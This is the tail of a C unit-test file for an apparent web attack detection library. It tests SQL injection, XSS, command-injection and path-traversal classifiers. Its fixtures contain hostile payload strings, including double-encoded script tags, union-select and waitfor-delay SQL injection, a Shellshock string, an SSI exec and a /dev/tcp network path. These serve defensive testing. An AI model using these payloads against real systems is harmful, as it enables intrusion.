    mm_detect_scratch_t sc = {malloc(mm_detect_scratch_size(big + 64)), mm_detect_scratch_size(big + 64)};
    char *buf = malloc(big + 64);
    assert_non_null(sc.buf);
    assert_non_null(buf);
    size_t fl = strlen(filler);
    for (size_t i = 0; i < big; i++)
        buf[i] = filler[i % fl];
    mm_detect_verdict_t v;
    assert_int_equal(mm_detect_value(&cfg, buf, big, MM_DETECT_LOC_BODY, NULL, &sc, &v), 0);
    assert_int_equal(v.cls, MM_DETECT_NONE);
    for (size_t k = 0; k < 4; k++) {
        size_t al = strlen(attacks[k]);
        memcpy(buf + big - al, attacks[k], al);
        assert_int_equal(mm_detect_value(&cfg, buf, big, MM_DETECT_LOC_BODY, NULL, &sc, &v), 0);
        assert_false(v.truncated);
        assert_int_equal(v.cls, cls[k]);
        for (size_t i = big - al; i < big; i++)
            buf[i] = filler[i % fl];
    }
    /* %253c (double-encoded '<') near the end, after 1 MiB of plain text
     * whose first pass rereads only the decoded region. */
    static const char tail[] = "%253Cscript%253Ealert(1)%253C/script%253E";
    size_t tl = strlen(tail);
    memcpy(buf + big - tl, tail, tl);
    assert_int_equal(mm_detect_value(&cfg, buf, big, MM_DETECT_LOC_BODY, NULL, &sc, &v), 0);
    assert_int_equal(v.cls, MM_DETECT_XSS);
    assert_true(v.decodings & MM_DETECT_DEC_URL_MULTI);
    free(buf);
    free(sc.buf);

    /* Score bounds on attack shapes and their concatenations. */
    static const char *const shapes[] = {
        "' union select 1,2--", "() { :; }; /bin/id", "<a href=javascript:alert(1)>x</a>",
        "<svg onload=alert(1)>", "..\\..\\..\\windows\\win.ini", "'; waitfor delay '0:0:5'--",
        "<!--#exec cmd=\"id\"-->", "/dev/tcp/1.2.3.4/80",
    };
    mm_detect_hit_t h;
    unsigned f = 0;
    for (size_t i = 0; i < sizeof shapes / sizeof shapes[0]; i++) {
        const uint8_t *s = (const uint8_t *)shapes[i];
        size_t n = strlen(shapes[i]);
        assert_true(mm_detect_sqli(s, n, &h, &f) <= MM_DETECT_SQLI_MAX);
        assert_true(mm_detect_xss(s, n, &h) <= MM_DETECT_XSS_MAX);
        assert_true(mm_detect_cmdi(s, n, &h, &f) <= MM_DETECT_CMDI_MAX);
        assert_true(mm_detect_traversal(s, n, &h) <= MM_DETECT_TRAVERSAL_MAX);
    }
}

static int setup(void **state)
{
    (void)state;
    mm_detect_config_init(&cfg);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_decode_url),
        cmocka_unit_test(test_decode_html),
        cmocka_unit_test(test_decode_escapes),
        cmocka_unit_test(test_decode_utf8),
        cmocka_unit_test(test_decode_never_grows),
        cmocka_unit_test(test_sqli_shapes),
        cmocka_unit_test(test_sqli_lookalikes),
        cmocka_unit_test(test_xss_shapes),
        cmocka_unit_test(test_xss_lookalikes),
        cmocka_unit_test(test_cmdi_shapes),
        cmocka_unit_test(test_cmdi_lookalikes),
        cmocka_unit_test(test_traversal_shapes),
        cmocka_unit_test(test_traversal_lookalikes),
        cmocka_unit_test(test_verdict),
        cmocka_unit_test(test_request),
        cmocka_unit_test(test_shared_corpus),
        cmocka_unit_test(test_large_values),
    };
    return cmocka_run_group_tests(tests, setup, NULL);
}
